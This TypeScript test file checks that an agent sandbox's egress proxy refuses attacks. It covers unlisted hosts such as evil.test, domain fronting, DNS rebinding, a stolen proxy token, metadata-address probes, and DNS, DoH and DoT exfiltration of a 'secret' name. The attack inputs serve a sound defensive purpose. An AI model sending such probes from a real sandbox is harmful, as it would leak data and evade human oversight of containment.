import { expect, it } from "vitest";
import { get } from "./attempts.ts";
import type { Attack } from "./bottle-attacks.ts";
import { REBINDING, type Scene } from "./bottle-scene.ts";

const DNS_TYPES = { A: 1, NULL: 10, CNAME: 5, TXT: 16, HTTPS: 65 };

/** Cases 12 to 32 of the threat model that need a bottle's own guard and token: names, addresses, and the name server. */
export function nameRules({ rig, contained, audited }: Scene): void {
  const at = (host: string): string => rig().world.at(host);

  it("12, 13: a host without a rule is refused with a reason, in one line, and nobody is asked for its address", async () => {
    const absolute = `http://${at("evil.test")}/plain`;
    const { findings, lines } = await audited([
      { kind: "tunnel", authority: "evil.test:443" },
      { kind: "tunnel", authority: at("evil.test"), request: get(at("evil.test"), "/inside") },
      {
        kind: "bytes",
        bytes: `GET ${absolute} HTTP/1.1\r\nHost: ${at("evil.test")}\r\n{login}Connection: close\r\n\r\n`,
      },
    ]);

    expect(findings).toMatchObject([
      { connect: 200, status: 403, rule: "default-deny" },
      { connect: 200, status: 403, rule: "default-deny" },
      { status: 403, rule: "default-deny" },
    ]);
    const body = JSON.parse(/\{.*\}/s.exec(findings[1]?.text ?? "")?.[0] ?? "{}");
    expect(body).toMatchObject({ host: "evil.test", port: rig().world.port, method: "GET", path: "/inside" });
    expect(body.reason).not.toBe("");
    expect(body.howToAsk).not.toBe("");
    for (const line of lines)
      expect(line).toMatchObject({ host: "evil.test", verdict: "Denied", rule: "default-deny" });
    expect(lines.map(({ path }) => path).toSorted()).toEqual(["/", "/inside", "/plain"]);
  });

  it("18, 20: a name inside other than the name outside ends there, over HTTP/1.1 and HTTP/2, and no credential is added", async () => {
    const { findings, lines } = await audited([
      { kind: "tunnel", authority: at("bound.test"), serverName: "evil.test" },
      { kind: "tunnel", authority: at("bound.test"), request: get(at("evil.test")) },
      { kind: "tunnel", authority: at("other.test"), request: get(at("bound.test")) },
      { kind: "http2", authority: at("bound.test"), inner: at("evil.test") },
      { kind: "http2", authority: at("other.test"), inner: at("bound.test") },
    ]);

    expect(findings[0]?.status).toBe(0);
    for (const finding of findings.slice(1)) expect(finding).toMatchObject({ status: 421, rule: "authority-mismatch" });
    expect(lines.map(({ rule }) => rule).toSorted()).toEqual([
      ...Array<string>(4).fill("authority-mismatch"),
      "tls-refused",
    ]);
  });

  it("26: what a program of the agent passes on to the guard is decided as if the agent had asked itself", async () => {
    const asked = ["evil.test:443", at("evil.test"), "169.254.169.254:80"].map(
      (authority) => ({ kind: "tunnel", authority }) as const,
    );

    const { findings, lines } = await audited([...asked, ...asked.map((one) => ({ ...one, relayed: true }) as const)]);

    const verdicts = findings.map(({ connect, status, rule }) => ({ connect, status, rule }));
    expect(verdicts.slice(asked.length)).toEqual(verdicts.slice(0, asked.length));
    expect(new Set(lines.map(({ verdict }) => verdict))).toEqual(new Set(["Denied"]));
  });

  it("21: an allowed name with an address that its rule does not open is not dialled", async () => {
    const since = (await rig().lines("a")).length;
    const { upstream } = rig().world;
    const before = upstream.connections();
    const attacks = Object.keys(REBINDING).map((host): Attack => ({ kind: "tunnel", authority: at(host) }));

    const findings = await rig().attack("a", attacks);

    for (const finding of findings) expect(finding).toMatchObject({ connect: 200, rule: "address-refused" });
    expect(upstream.connections()).toBe(before);
    const lines = await rig().newLines("a", since, attacks.length);
    expect(lines.map(({ host, rule }) => [host, rule]).toSorted()).toEqual(
      Object.keys(REBINDING)
        .map((host) => [host, "address-refused"])
        .toSorted(),
    );
  });

  it("30: no token, a wrong one and that of another bottle open nothing", async () => {
    const [proxy] = await rig().sh("b", "echo $HTTPS_PROXY");
    const other = /\/\/(bottle:.*)@/.exec(proxy)?.[1] ?? "";
    expect(other.length).toBeGreaterThan(30);
    const credentials = ["", "bottle:", "bottle:wrong", other, other.slice(0, -1)];
    const login = Buffer.from(other).toString("base64");
    const plain = `GET http://${at("allowed.test")}/ HTTP/1.1\r\nHost: ${at("allowed.test")}\r\n`;

    const { findings, lines } = await audited([
      ...credentials.map((one): Attack => ({ kind: "tunnel", authority: at("allowed.test"), credentials: one })),
      { kind: "bytes", bytes: `${plain}Connection: close\r\n\r\n` },
      { kind: "bytes", bytes: `${plain}Proxy-Authorization: Basic ${login}\r\nConnection: close\r\n\r\n` },
    ]);

    expect(findings.map(({ connect, status }) => connect ?? status)).toEqual(findings.map(() => 407));
    for (const line of lines)
      expect(line).toMatchObject({ verdict: expect.not.stringMatching("Allowed"), rule: "unauthorized" });
  });

  it("31, 32: no question reaches a name server, whatever it asks and whomever; nor do DoH and DoT", async () => {
    const { address, dns } = rig().world;
    const port = Number(dns.address.split(":")[1]);
    const servers: [string, number][] = [
      ["127.0.0.11", 53],
      ["127.0.0.1", 53],
      ["127.0.0.1", port],
      ["127.0.0.53", 53],
      [address, 53],
    ];
    const long = `${"a".repeat(63)}.${"b".repeat(63)}.evil.test`;
    const attacks = [...servers, ["8.8.8.8", 53] as const].flatMap(([host, one]): Attack[] => [
      ...Object.values(DNS_TYPES).map((type): Attack => ({ kind: "udp", host, port: one, type })),
      { kind: "udp", host, port: one, name: long },
      { kind: "tcp", host, port: one },
    ]);
    const names = ["secret.evil.test", "allowed.test", long].map((name): Attack => ({ kind: "lookup", name }));

    for (const finding of await contained([...attacks, ...names])) expect(finding.through).toBeUndefined();

    const query = get(at("api.allowed.test"), "/dns-query?dns=AAABAAABAAAAAAAABnNlY3JldARldmlsBHRlc3QAAAEAAQ");
    const { findings, lines } = await audited([
      { kind: "tunnel", authority: at("api.allowed.test"), request: query },
      { kind: "tunnel", authority: "allowed.test:853" },
      { kind: "tunnel", authority: "dns.evil.test:443" },
    ]);
    expect(findings.map(({ status }) => status)).toEqual([403, 403, 403]);
    expect(lines.map(({ rule }) => rule).toSorted()).toEqual(["default-deny", "default-deny", "path-refused"]);
  });
}
